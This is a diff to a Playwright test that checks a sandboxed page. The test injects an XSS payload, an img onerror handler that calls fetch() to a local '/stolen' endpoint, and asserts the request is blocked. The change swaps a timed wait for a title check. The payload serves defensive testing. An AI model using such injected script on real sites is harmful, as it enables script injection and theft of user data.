@@ -153,11 +153,13 @@ async def test_the_articles_page_runs_the_payload_in_a_sandbox_that_reaches_noth
                 await member.opened()
                 # The article's page is in the room once it hears the newcomer after it.
                 await expect(page.locator("body > div")).to_have_text(["user1 comes in", "user2 comes in"])
-                steal = f"fetch('http://127.0.0.1:{elsewhere.server_port}/stolen')"
+                # The stolen request's fate goes into the title: the test waits for it, not for a while.
+                steal = (f"fetch('http://127.0.0.1:{elsewhere.server_port}/stolen')"
+                         ".then(() => document.title = 'reached', () => document.title = 'blocked')")
                 member.send(f"<img src=x onerror=\"document.querySelector('h1').textContent='ran'; {steal}\">")
                 await expect(page.locator("h1")).to_have_text("ran")  # the markup ran...
-                await page.wait_for_timeout(300)
-                assert visits == []  # ...and could not reach another server
+                await expect(page).to_have_title("blocked")  # ...its request failed...
+                assert visits == []  # ...without reaching another server
                 # The page itself is the article's, with only its address filled in.
                 served = await (await page.request.get(server.page_url + "article.html")).text()
                 original = (ARTICLE / article_name).read_text()
